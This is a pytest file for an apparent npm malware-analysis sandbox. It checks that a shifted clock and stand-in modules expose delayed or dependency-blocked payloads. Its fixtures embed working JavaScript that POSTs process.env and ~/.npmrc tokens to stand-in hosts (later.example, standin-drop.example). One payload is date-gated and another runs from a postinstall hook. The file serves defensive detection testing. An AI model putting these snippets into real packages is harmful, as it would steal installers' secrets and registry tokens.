"""Reaching npm payloads, in the real sandbox, through the CLI: the "later" world's clock for Node
(guest/workers/nodeclock.js) and stand-ins for the requires of missing modules when npm install
failed (guest/workers/nodestandins.js), each next to what must not change.

TEST FIXTURES, NOT MALWARE: the "exfiltration" goes to reserved example names, which only the
network simulator answers.
"""

from __future__ import annotations

import datetime
import json
from pathlib import Path

import pytest

from builders import npm_tgz
from clirun import run_cli_json

pytestmark = pytest.mark.sandbox


def _analyze(tgz: Path, results: Path) -> dict:
    return run_cli_json("analyze", "npm", "--local", str(tgz), "--mode", "dynamic",
                        "--results", str(results), "--timeout", "120")


def _targets(section: dict) -> set[str]:
    return {f"{e['hostname']}{e['http']['target']}" for e in section.get("network") or [] if e.get("http")}


def test_date_gated_and_sleeping_npm_payload_fires_only_in_the_later_world(tmp_path, results):
    # a fortnight ahead of the build, so the test stays valid whenever it runs
    gate = int((datetime.datetime.now() + datetime.timedelta(days=14)).timestamp() * 1000)
    index = ("const http = require('http');\n"
             "const send = (what) => { const r = http.request({host: 'later.example', path: '/' + what,"
             " method: 'POST'}, () => {}); r.on('error', () => {}); r.end(JSON.stringify(process.env)); };\n"
             f"if (Date.now() > {gate} && new Date().getFullYear() >= 2020) send('date');\n"
             "const t0 = Date.now();\n"
             "setTimeout(() => { if (Date.now() - t0 >= 3600000) send('slept'); }, 3600000);\n"
             "module.exports = { version: () => '1.0.0' };\n")
    pkg = {"name": "later-gated-fixture", "version": "1.0.0", "main": "index.js"}
    docs = _analyze(npm_tgz(tmp_path, {"package.json": json.dumps(pkg), "index.js": index}), results)
    dyn = docs["report"]["dynamic"]
    base = set().union(*(_targets(p) for p in dyn["phases"].values()))
    assert not {t for t in base if t.startswith("later.example")}, base
    later = dyn["worlds"]["later"]
    seen = _targets(later["phases"]["import"])
    assert {"later.example/date", "later.example/slept"} <= seen, seen
    assert later["clock_shift_days"] >= 14
    v = docs["report"]["verdict"]
    assert v["label"] == "malicious"
    assert "later" in {f["evidence"].get("world") for f in v["findings"] if f["source"] == "dynamic"}


def test_npm_package_that_only_reads_the_date_stays_benign_in_the_later_world(tmp_path, results):
    index = ("const started = new Date();\n"
             "module.exports = { uptime: () => Date.now() - started.getTime(),\n"
             "  stamp: () => new Date().toISOString(), later: (f) => setTimeout(f, 3600000) };\n")
    pkg = {"name": "date-reader-fixture", "version": "1.0.0", "main": "index.js"}
    docs = _analyze(npm_tgz(tmp_path, {"package.json": json.dumps(pkg), "index.js": index}), results)
    dyn = docs["report"]["dynamic"]
    assert "later" in dyn["worlds"]
    assert dyn["worlds"]["later"]["phases"]["import"]["status"] == "completed"
    v = docs["report"]["verdict"]
    assert v["label"] == "benign", json.dumps(v["findings"], indent=1)[:3000]


def test_lifecycle_script_requiring_a_missing_dependency_still_reaches_its_payload(tmp_path, results):
    # npm install fails (the dependency does not exist); the postinstall requires it first
    pkg = {"name": "npm-standin-fixture", "version": "1.0.0", "main": "index.js",
           "dependencies": {"pkgtrace-no-such-package-7d2e11": "^1.0.0"},
           "scripts": {"postinstall": "node collect.js"}}
    collect = ("const helper = require('pkgtrace-no-such-package-7d2e11');\n"
               "const http = require('http'), fs = require('fs'), os = require('os');\n"
               "helper.init({ quiet: true });\n"
               "let token = ''; try { token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}\n"
               "const r = http.request({host: 'standin-drop.example', path: '/t', method: 'POST'}, () => {});\n"
               "r.on('error', () => {}); r.end(token);\n")
    index = "const helper = require('pkgtrace-no-such-package-7d2e11');\nmodule.exports = () => helper;\n"
    tgz = npm_tgz(tmp_path, {"package.json": json.dumps(pkg), "collect.js": collect, "index.js": index})
    docs = _analyze(tgz, results)
    dyn = docs["report"]["dynamic"]
    install = dyn["phases"]["install"]
    assert install["fallback"]["kind"] == "lifecycle-scripts"
    assert install["standins"] == ["pkgtrace-no-such-package-7d2e11"]
    assert "standin-drop.example/t" in _targets(install)
    # the import needed the stand-in too, and completed with it
    imp = dyn["phases"]["import"]
    assert imp["standins"] == ["pkgtrace-no-such-package-7d2e11"] and imp["status"] == "completed"
    v = docs["report"]["verdict"]
    assert v["label"] == "malicious", json.dumps(v["findings"], indent=1)[:3000]


def test_a_require_that_exists_is_never_stood_in_for(tmp_path, results):
    # the evasion of a stand-in: none is given when Node finds the module, and none for a
    # relative path that is not there (the package's own broken file stays broken)
    pkg = {"name": "npm-real-require-fixture", "version": "1.0.0", "main": "index.js",
           "dependencies": {"pkgtrace-no-such-package-7d2e11": "^1.0.0"},
           "scripts": {"postinstall": "node setup.js"}}
    setup = ("const path = require('path');\n"
             "try { require('./not-there'); } catch (e) { console.log('relative missing'); }\n"
             "console.log(typeof path.join);\n")
    tgz = npm_tgz(tmp_path, {"package.json": json.dumps(pkg), "setup.js": setup,
                             "index.js": "module.exports = 1;\n"})
    docs = _analyze(tgz, results)
    install = docs["report"]["dynamic"]["phases"]["install"]
    assert install["fallback"]["kind"] == "lifecycle-scripts"
    assert "standins" not in install
    # the fallback's own unpacking is pkgtrace's, not inline code the package ran
    assert "DYN-INLINE-INTERPRETER" not in {f["rule"] for f in docs["report"]["verdict"]["findings"]}
